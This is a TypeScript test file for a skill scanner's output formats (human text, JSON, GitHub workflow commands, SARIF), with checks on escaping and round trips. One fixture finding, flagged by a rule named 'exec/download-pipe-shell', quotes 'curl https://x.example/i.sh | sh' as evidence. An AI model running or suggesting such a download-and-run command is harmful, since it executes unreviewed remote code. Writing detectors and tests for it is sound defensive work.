/**
 * The one set of output formats (src/core/reporters/), for every command. The GitHub format is checked against the workflow-command syntax
 * GitHub documents — `::error file={name},line={line},col={col},title={title}::{message}` — and
 * decoded with the unescaping the Actions runner applies (properties: %0D %0A %3A %2C then %25;
 * data: %0D %0A then %25), so a round trip proves nothing is lost or split.
 */
import { describe, expect, it } from 'vitest';
import { escapeData, escapeProperty, formatGithub } from '../../src/core/reporters/github.ts';
import { formatHuman, type HumanStyle } from '../../src/core/reporters/human.ts';
import { formatJson } from '../../src/core/reporters/json.ts';
import { anchorOf } from '../../src/core/rule.ts';
import type { Diagnostic } from '../../src/core/schemas/diagnostic.ts';

const mismatch: Diagnostic = {
  rule: 'name/folder-mismatch',
  severity: 'error',
  file: 'skills/pdf-tools/SKILL.md',
  line: 2,
  column: 7,
  message: "Directory name 'pdf-tools' must match skill name 'pdf-tool'",
  hint: "rename the folder to 'pdf-tool' or set `name: pdf-tools`",
  skill: 'pdf-tool',
};
const unknown: Diagnostic = { rule: 'frontmatter/unknown-field', severity: 'warning', file: 'skills/x/SKILL.md', line: 4, column: 8, message: "unknown frontmatter field 'owner'" };

/** The Actions runner's parser for one workflow-command line. */
function parseWorkflowCommand(line: string): { command: string; properties: Record<string, string>; data: string } {
  const match = /^::([a-z-]+)(?: ([^]*?))?::([^]*)$/.exec(line);
  if (!match) throw new Error(`not a workflow command: ${line}`);
  const unescapeProperty = (s: string) => s.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%3A/g, ':').replace(/%2C/g, ',').replace(/%25/g, '%');
  const unescapeData = (s: string) => s.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%25/g, '%');
  const properties: Record<string, string> = {};
  for (const pair of (match[2] ?? '').split(',').filter(Boolean)) {
    const eq = pair.indexOf('=');
    properties[pair.slice(0, eq)] = unescapeProperty(pair.slice(eq + 1));
  }
  return { command: match[1] as string, properties, data: unescapeData(match[3] as string) };
}

describe('formatHuman', () => {
  it('prints path:line:col  rule  severity  message, the hint with its rules-table anchor, and a summary', () => {
    expect(formatHuman({ diagnostics: [mismatch, unknown] })).toBe(
      [
        "skills/pdf-tools/SKILL.md:2:7  name/folder-mismatch  error  Directory name 'pdf-tools' must match skill name 'pdf-tool'",
        "    hint: rename the folder to 'pdf-tool' or set `name: pdf-tools` (docs/rules.md#name-folder-mismatch)",
        "skills/x/SKILL.md:4:8  frontmatter/unknown-field  warning  unknown frontmatter field 'owner'",
        '1 error, 1 warning',
        '',
      ].join('\n'),
    );
  });

  it('pluralises the summary and prints only it for a clean tree', () => {
    expect(formatHuman({ diagnostics: [] })).toBe('0 errors, 0 warnings\n');
    expect(formatHuman({ diagnostics: [mismatch, mismatch, unknown, unknown] })).toMatch(/\n2 errors, 2 warnings\n$/);
  });

  it('styles through the given style only: bold rule, red error, yellow warning, dim hint', () => {
    const tag = (name: string) => (t: string) => `<${name}>${t}</${name}>`;
    const style: HumanStyle = { red: tag('r'), yellow: tag('y'), green: tag('g'), cyan: tag('c'), dim: tag('d'), bold: tag('b') };
    const out = formatHuman({ diagnostics: [mismatch, unknown] }, style).split('\n');
    expect(out[0]).toBe("skills/pdf-tools/SKILL.md:2:7  <b>name/folder-mismatch</b>  <r>error</r>  Directory name 'pdf-tools' must match skill name 'pdf-tool'");
    expect(out[1]).toMatch(/^<d> {4}hint: .*\(docs\/rules\.md#name-folder-mismatch\)<\/d>$/);
    expect(out[2]).toContain('<y>warning</y>');
  });

  it('anchors follow the rules table: name/folder-mismatch → name-folder-mismatch', () => {
    expect(anchorOf('name/folder-mismatch')).toBe('name-folder-mismatch');
    expect(anchorOf('skill-json/body-missing')).toBe('skill-json-body-missing');
  });
});

describe('formatJson', () => {
  it('prints counts, the extra fields and every diagnostic unchanged', () => {
    const text = formatJson({ diagnostics: [mismatch, unknown] }, { accepted: ['a'], rejected: [{ dir: 'skills/pdf-tools' }] });
    expect(text.endsWith('}\n')).toBe(true);
    expect(JSON.parse(text)).toEqual({ accepted: ['a'], rejected: [{ dir: 'skills/pdf-tools' }], errors: 1, warnings: 1, diagnostics: [mismatch, unknown] });
  });

  it('does not let extra fields overwrite the counts or the diagnostics', () => {
    expect(JSON.parse(formatJson({ diagnostics: [mismatch] }, { errors: 0, diagnostics: [] }))).toMatchObject({ errors: 1, warnings: 0, diagnostics: [mismatch] });
  });
});

describe('formatGithub', () => {
  it('follows the documented workflow-command syntax', () => {
    expect(formatGithub({ diagnostics: [mismatch, unknown] })).toBe(
      "::error file=skills/pdf-tools/SKILL.md,line=2,col=7,title=name/folder-mismatch::Directory name 'pdf-tools' must match skill name 'pdf-tool' (hint: rename the folder to 'pdf-tool' or set `name: pdf-tools`)\n" +
        "::warning file=skills/x/SKILL.md,line=4,col=8,title=frontmatter/unknown-field::unknown frontmatter field 'owner'\n",
    );
    for (const line of formatGithub({ diagnostics: [mismatch, unknown] }).trimEnd().split('\n')) {
      expect(line).toMatch(/^::(error|warning) file=[^,:]+,line=\d+,col=\d+,title=[^,:]+::.+$/);
    }
  });

  it('prints nothing for a clean tree', () => {
    expect(formatGithub({ diagnostics: [] })).toBe('');
  });

  it('escapes %, CR and LF in the message, and also : and , in properties, so each diagnostic stays one command', () => {
    const nasty: Diagnostic = {
      rule: 'x:y,z',
      severity: 'error',
      file: 'skills/a,b/c:d/100%.md',
      line: 3,
      column: 1,
      message: '50% done\r\nnext line: a, b %0A literal',
      hint: 'fix: it, now',
    };
    const out = formatGithub({ diagnostics: [nasty] });
    expect(out.split('\n')).toHaveLength(2); // one line plus the final newline
    expect(out).toBe('::error file=skills/a%2Cb/c%3Ad/100%25.md,line=3,col=1,title=x%3Ay%2Cz::50%25 done%0D%0Anext line: a, b %250A literal (hint: fix: it, now)\n');
    const parsed = parseWorkflowCommand(out.trimEnd());
    expect(parsed).toEqual({
      command: 'error',
      properties: { file: nasty.file, line: '3', col: '1', title: nasty.rule },
      data: `${nasty.message} (hint: ${nasty.hint})`,
    });
  });

  it('round-trips arbitrary text through the runner unescaping', () => {
    const samples = ['%', '%%25', '%0A', '\n\r\n', 'a:b,c', '::error::x', '100%,:\r\n%3A%2C', 'plain'];
    for (const s of samples) {
      const d: Diagnostic = { rule: s, severity: 'warning', file: s, line: 1, column: 1, message: s };
      const out = formatGithub({ diagnostics: [d] });
      expect(out.split('\n'), JSON.stringify(s)).toHaveLength(2);
      const parsed = parseWorkflowCommand(out.trimEnd());
      expect(parsed.properties.file).toBe(s);
      expect(parsed.properties.title).toBe(s);
      expect(parsed.data).toBe(s);
    }
  });

  it('escapeData and escapeProperty escape exactly what the toolkit escapes', () => {
    expect(escapeData('%\r\n:,')).toBe('%25%0D%0A:,');
    expect(escapeProperty('%\r\n:,')).toBe('%25%0D%0A%3A%2C');
  });
});

describe('one line for every diagnostic, validator or scanner', () => {
  const finding: Diagnostic = {
    rule: 'exec/download-pipe-shell',
    severity: 'critical',
    file: 'skills/setup/SKILL.md',
    line: 9,
    column: 3,
    evidence: 'curl https://x.example/i.sh | sh',
    message: 'Downloads code and runs it in one step. Fix: Ship the script inside the skill.',
    docs: 'docs/security.md#exec-download-pipe-shell',
    skill: 'setup',
  };

  it('human: a finding has the validator line, then its evidence and its docs link (it has no separate hint)', () => {
    expect(formatHuman({ diagnostics: [finding, unknown] })).toBe(
      [
        'skills/setup/SKILL.md:9:3  exec/download-pipe-shell  critical  Downloads code and runs it in one step. Fix: Ship the script inside the skill.',
        '    evidence: curl https://x.example/i.sh | sh',
        '    docs: docs/security.md#exec-download-pipe-shell',
        "skills/x/SKILL.md:4:8  frontmatter/unknown-field  warning  unknown frontmatter field 'owner'",
        '1 error, 1 warning',
        '',
      ].join('\n'),
    );
  });

  it('github: the risk severity goes in the title, evidence and docs after the message', () => {
    const parsed = parseWorkflowCommand(formatGithub({ diagnostics: [finding] }).trimEnd());
    expect(parsed.command).toBe('error');
    expect(parsed.properties.title).toBe('exec/download-pipe-shell (critical)');
    expect(parsed.data).toBe(`${finding.message}\nEvidence: ${finding.evidence}\nDocs: ${finding.docs}`);
  });

  it('sarif: every rule with its fix, a finding with its snippet and security severity, a diagnostic with its hint', async () => {
    const { formatSarif } = await import('../../src/core/reporters/sarif.ts');
    const { ALL_RULES } = await import('../../src/pipeline/rules/all-rules.ts');
    const log = JSON.parse(formatSarif({ diagnostics: [finding, mismatch] }, { name: 'skilldex-validate', version: '1.2.3', rules: ALL_RULES.map((r) => r.meta), rootDescription: 'The directory skilldex ran in.' }));
    const run = log.runs[0];
    expect(run.tool.driver.rules).toHaveLength(ALL_RULES.length);
    for (const rule of run.tool.driver.rules) expect(rule.help.text, rule.id).toContain('\n\nFix: ');
    const [f, d] = run.results;
    expect(f).toMatchObject({ ruleId: 'exec/download-pipe-shell', level: 'error', partialFingerprints: { 'skilldexFinding/v1': `exec/download-pipe-shell:skills/setup/SKILL.md:${finding.evidence}` }, properties: { skill: 'setup', severity: 'critical', 'security-severity': '9.5' } });
    expect(f.locations[0].physicalLocation.region).toEqual({ startLine: 9, startColumn: 3, snippet: { text: finding.evidence } });
    expect(d).toMatchObject({ ruleId: 'name/folder-mismatch', level: 'error', message: { text: `${mismatch.message}\nHint: ${mismatch.hint}` }, properties: { skill: 'pdf-tool' } });
    expect(d.partialFingerprints).toEqual({ 'skilldexDiagnostic/v1': `name/folder-mismatch:skills/pdf-tools/SKILL.md:${mismatch.message}` });
    expect(run.tool.driver.rules[d.ruleIndex].id).toBe('name/folder-mismatch');
  });
});
